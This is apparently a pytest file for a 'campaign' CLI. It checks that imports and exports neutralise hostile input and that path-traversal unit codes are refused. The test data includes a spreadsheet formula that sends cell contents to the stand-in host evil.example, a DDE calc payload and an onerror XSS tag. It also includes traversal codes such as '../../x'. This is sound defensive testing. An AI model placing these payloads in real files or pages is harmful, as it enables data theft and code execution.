"""Inputs that cannot hurt, through the real `campaign` command: hostile names and actors come
out of CSV and Markdown as text, no code writes outside `--out`, and bad plans, files and
database URLs are one `error:` line naming what to fix."""

import csv
import io
import json
import uuid
from pathlib import Path

from sqlalchemy import Engine, text

from campaign.exports import FORMULA_STARTS
from tests.cli_process import run_cli
from tests.input_files import MEMBER_HEADER, UNIT_HEADER, write_csv
from tests.town import MEMBERS, PLANS, UNITS

HYPERLINK = '=HYPERLINK("http://evil.example/"&B2,"x")'
CALC = "=cmd|' /C calc'!A0"
TAG = "<img src=x onerror=alert(1)> *Dung*"


def _url(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def test_hostile_names_and_actors_come_out_as_text(town: Engine, tmp_path: Path) -> None:
    url = _url(town)
    units = [[*u[:1], CALC, *u[2:]] if u[0] == "B2" else u for u in UNITS]
    assert (
        run_cli(
            "units", "import", write_csv(tmp_path / "u.csv", UNIT_HEADER, units), database_url=url
        ).returncode
        == 0
    )
    members = [[m[0], TAG, *m[2:]] if m[0] == "M4" else m for m in MEMBERS]
    imported = run_cli(
        "members", "import", write_csv(tmp_path / "m.csv", MEMBER_HEADER, members), database_url=url
    )
    assert imported.returncode == 0, imported.stderr
    ran = run_cli("run", "T23", "--as-of", "2023-05-22", "--actor", HYPERLINK, database_url=url)
    assert ran.returncode == 0, ran.stderr

    exported = run_cli("audit", "T23", "--format", "csv", database_url=url)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert len(rows) > 10
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a cell a spreadsheet runs"
    assert {row[2] for row in rows[1:]} >= {"'" + HYPERLINK}
    trail = json.loads(run_cli("audit", "T23", "--format", "json", database_url=url).stdout)
    assert HYPERLINK in {event["actor"] for event in trail}, "JSON keeps the text as it is"

    docs = run_cli("docs", "T23", "--out", tmp_path / "docs", database_url=url)
    assert docs.returncode == 0, docs.stderr
    notice = (tmp_path / "docs" / "B2" / "2023-05-22-overdue-0.md").read_text(encoding="utf-8")
    assert "<img" not in notice and CALC not in notice
    assert "\\=cmd\\|' /C calc'!A0" in notice
    assert "&lt;img src=x onerror=alert(1)&gt; \\*Dung\\* (M4)" in notice
    html = (tmp_path / "docs" / "B2" / "2023-05-22-overdue-0.html").read_text(encoding="utf-8")
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    for markdown in (tmp_path / "docs").rglob("*.md"):
        assert "<img" not in markdown.read_text(encoding="utf-8"), markdown


def test_docs_write_nothing_outside_out_whatever_the_stored_codes(
    town: Engine, tmp_path: Path
) -> None:
    """Codes stored before codes were checked (put in the database directly here) cannot lead
    a document out of `--out`: the command refuses, naming the code, and writes nothing there."""
    url = _url(town)
    assert run_cli("run", "T23", "--as-of", "2023-05-20", database_url=url).returncode == 0
    elsewhere = Path(f"/tmp/campaign-escape-{uuid.uuid4().hex[:12]}")  # a code's length
    rename = text("UPDATE unit SET code = :new WHERE code = :old")
    before = {p for p in tmp_path.rglob("*") if p.is_file()}
    for old, new in (("B2", "../../x"), ("G2", str(elsewhere))):
        with town.begin() as connection:
            connection.execute(rename, {"new": new, "old": old})
        out = tmp_path / "a" / "docs"
        docs = run_cli("docs", "T23", "--out", out, database_url=url)
        with town.begin() as connection:
            connection.execute(rename, {"new": old, "old": new})
        assert docs.returncode == 1, docs.stdout
        assert docs.stderr.startswith(f"error: '{new}' would be written outside {out} "), (
            docs.stderr
        )
        assert len(docs.stderr.splitlines()) == 1 and "Traceback" not in docs.stderr
        assert not (tmp_path / "x").exists() and not elsewhere.exists()
        outside = {p for p in tmp_path.rglob("*") if p.is_file() and not p.is_relative_to(out)}
        assert outside == before, outside - before


def test_a_bad_database_url_is_one_line_without_its_password(tmp_path: Path) -> None:
    for url, reason in [
        ("nonsense://", "--database-url nonsense://: NoSuchModuleError"),
        ("not a url", "--database-url: not a database URL"),
        ("postgresql+psycopg://x:S3cret@h:notaport/db", "--database-url: not a database URL"),
        (
            "postgresql+psycopg://x:S3cret@127.0.0.1:1/db",
            "--database-url postgresql+psycopg://x:***@127.0.0.1:1/db: OperationalError",
        ),
        (
            f"sqlite:///{tmp_path}/none/x.db",
            f"--database-url sqlite:///{tmp_path}/none/x.db: OperationalError",
        ),
    ]:
        refused = run_cli("status", "T23", database_url=url)
        assert refused.returncode == 1
        assert refused.stderr.startswith(f"error: {reason}"), refused.stderr
        assert "S3cret" not in refused.stderr + refused.stdout
        assert len(refused.stderr.splitlines()) == 1 and "internal error" not in refused.stderr


def test_an_impossible_plan_date_and_a_file_not_in_utf8_say_what_to_fix(
    engine: Engine, tmp_path: Path
) -> None:
    url = _url(engine)
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        (PLANS / "la-gi-2023.yaml").read_text(encoding="utf-8").replace("2023-02-01", "2023-02-30"),
        encoding="utf-8",
    )
    registered = run_cli("plan", "register", plan, database_url=url)
    assert registered.returncode == 1
    assert registered.stderr == (
        "error: plan.yaml, key period.start: Input should be a valid date or datetime, day value "
        "is outside expected range\n"
    )
    units = tmp_path / "units.csv"
    units.write_bytes(
        "code,name,kind,parent\nLAGI,Thị ủy La Gi,district,\n".encode()
        + b"G1,Ph\xfa,grassroots,LAGI\n"
    )
    imported = run_cli("units", "import", units, database_url=url)
    assert imported.returncode == 1
    assert imported.stderr == (
        "error: units.csv, row 3: is not UTF-8 text: save the file as UTF-8 (in Excel: CSV UTF-8)\n"
    )
